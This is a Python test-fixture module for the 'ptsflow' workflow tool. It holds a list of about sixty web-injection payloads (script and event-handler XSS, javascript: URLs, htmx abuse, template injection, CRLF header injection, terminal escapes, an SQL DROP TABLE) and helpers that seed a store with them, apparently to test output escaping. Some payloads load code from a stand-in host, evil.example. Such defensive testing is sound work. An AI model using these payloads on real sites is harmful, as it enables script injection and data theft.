"""Texts that would do harm in a page that does not escape them, and a store full of them."""

from __future__ import annotations

import contextlib
import json
from collections.abc import Callable

from msgspec.structs import replace

from ptsflow.core.insight import FailedTask, Outlook, RunRecord, RunStatus, StepStats
from ptsflow.core.model import (
    NAME_LIMIT,
    Attempt,
    Change,
    Ending,
    LogChunk,
    LogLine,
    Owner,
    Status,
    StepSummary,
    TaskRecord,
)
from ptsflow.core.texts import cut
from ptsflow.stores import open_store
from ptsflow.stores.base import LogStore, Store

#: What a script does that runs: tests look whether it did.
RUN = "window.harmed=1"

PAYLOADS: tuple[str, ...] = (
    # -- elements
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<SCRIPT\n>{RUN}</SCRIPT\n>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"</svg><img src=x onerror={RUN}>",
    f"</title><script>{RUN}</script>",
    f"</text><script>{RUN}</script><text>",
    f"</pre></td></table><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"<style>@import '//evil.example/x.css'</style><script>{RUN}</script>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN.removeprefix('window.')}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<form action='javascript:{RUN}'><button autofocus>x</button></form>",
    "<base href='//evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<!--<script>{RUN}</script>-->",
    f"--><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<plaintext>",
    # -- attributes
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"` onload=`{RUN}",
    f"x onclick={RUN} ",
    # -- addresses
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "//evil.example/",
    "/../../c/..%2f..%2f?task=x&token=y#z",
    # -- what a library would act upon
    f"<div hx-get=//evil.example/ hx-trigger=load hx-on:load={RUN}>",
    f"</hx-partial><hx-partial hx-target=body><img src=x onerror={RUN}></hx-partial>",
    "<div hx-sse:connect=//evil.example/>",
    "{{ 7*'7' }}{% raw %}${7*7}#{7*7}",
    "{{ config.__class__.__mro__ }}",
    # -- what carries lines of events and headers
    f"x\n\ndata: <script>{RUN}</script>\n\n",
    f"x\r\rid: 7\rdata: <img src=x onerror={RUN}>\r\r",
    "x\r\nSet-Cookie: a=b\r\n\r\n<b>",
    "x\u2028data: y\u2029event: z\x85id: 1",
    # -- texts that look like others
    f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    "\u202egnp.exe\u2066\u200b",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07\x1b[2J\x08\x7f",
    "\ufffe\uffff\ufdd0\ud7ff",
    "\x01\x02\x0b\x1f\x9b31m",
    # -- values
    '{"$":"secret","v":"x"}</script>',
    f'","x":"</script><script>{RUN}</script>',
    "x" * 5_000,
    "#{1}'; DROP TABLE tasks; --",
    "width:expression(1);background:url(//evil.example/)",
)

_STATUSES = (Status.FAILED, Status.DONE, Status.RUNNING, Status.WAITING, Status.SKIPPED)
#: The status of each container, in turns; the running ones stay leased.
_ENDS = (Status.FAILED, Status.DONE, Status.RUNNING)


def name_of(payload: str, number: int) -> str:
    """Return a text as the name of something: short enough, and unlike all others."""
    head = f"{number} "
    kept = payload.encode()[: NAME_LIMIT - 20 - len(head)]
    return head + kept.decode(errors="ignore")


def fill(url: str, made: Callable[[str], str] | None = None) -> list[str]:
    """Make a container for each payload that has it in every text.

    Args:
        url: the store.
        made: returns what stands in the place of a payload; without it the payload.

    Returns:
        the uids of the containers.
    """
    uids = []
    with (
        contextlib.closing(open_store(url)) as store,
        contextlib.closing(store.logs()) as logs,
    ):
        for number, payload in enumerate(PAYLOADS):
            text = made(payload) if made else payload
            uids.append(_fill_one(store, logs, text, number))
    return uids


def _fill_one(store: Store, logs: LogStore, text: str, number: int) -> str:
    """Make a container with a text everywhere; return its uid."""
    now = store.now()
    name = name_of(text, number)
    made, _ = store.create(name)
    owner = Owner(
        id=f"owner {number}", host=text, boot=text, pid=1, started=1, since=now
    )
    record = store.claim(made.uid, owner, 3_600_000)
    assert record is not None
    plain, wide = f"s{name}", f"w{name}"
    plan = (
        StepSummary(name=plain, text=text),
        StepSummary(name=wide, each=plain, needs=(plain,), takes=(plain,), text=text),
    )
    status = _ENDS[number % len(_ENDS)]
    record = replace(
        record,
        workflow=name,
        params=json.dumps({text: json.dumps(text)}),
        plan=plan,
        status=status,
        finish_reason=text,
        target=text,
        module=text,
        file=text,
        started_at=now - 9_000,
        ended_at=None if status is Status.RUNNING else now,
    )
    keys = (text[:40], "a", "b", "c", "d")
    tasks = [
        _task(plain, plain, None, text, now),
        *(_task(f"{wide}[{key}]", wide, key, text, now) for key in keys),
    ]
    tasks = [
        replace(task, status=_STATUSES[place % len(_STATUSES)], fence=record.fence)
        for place, task in enumerate(tasks)
    ]
    store.save(record, _run(record.fence, record.uid, name, text, now))
    ended = [Change(None, task, _attempt(text, now)) for task in tasks]
    store.commit(record.uid, ended, fence=record.fence)
    line = LogLine(now, text, text)
    for task in tasks:
        chunk = LogChunk(task=task.name, attempt=2, number=0, lines=(line, line))
        logs.put(record.uid, [chunk])
    outlook = Outlook(at=now, percentage=40, eta_at=now + 60_000, runs=9)
    store.tell(record.uid, record.fence, outlook)
    if status is not Status.RUNNING:
        run = _run(record.fence, record.uid, name, text, now)
        store.release(record, replace(run, ended_at=now, status=RunStatus.FAILED))
    return record.uid


def _task(name: str, step: str, key: str | None, text: str, now: int) -> TaskRecord:
    value = json.dumps(text)
    return TaskRecord(
        name=cut(name, NAME_LIMIT),
        step=step,
        key=key,
        version=1,
        attempt=2,
        invoke_count=2,
        percentage_complete=40,
        status_text=cut(text, 4_000),
        due=now + 60_000,
        began_at=now - 8_000,
        last_invoked_at=now - 4_000,
        task_ended_at=now - 1_000,
        task_duration_ms=3_000,
        error=text,
        ran_by=text,
        task_data=value,
        processing_data=json.dumps({text: text}),
        result=json.dumps([text]),
    )


def _attempt(text: str, now: int) -> Attempt:
    return Attempt(
        number=1,
        began_at=now - 8_000,
        ended_at=now - 5_000,
        ending=Ending.FAILED,
        error_type=text,
        error=text,
        traceback=f"Traceback:\n  {text}\n{text}",
        ran_by=text,
    )


def _run(fence: int, uid: str, name: str, text: str, now: int) -> RunRecord:
    return RunRecord(
        uid=uid,
        fence=fence,
        container=name,
        workflow=name,
        target=text,
        ran_by=text,
        began_at=now - 9_000,
        counts={"failed": 2},
        failed=(FailedTask(text, text, text),),
        steps=(StepStats(name=f"s{name}", count=1, mean_ms=9, keys={text: 9}),),
    )
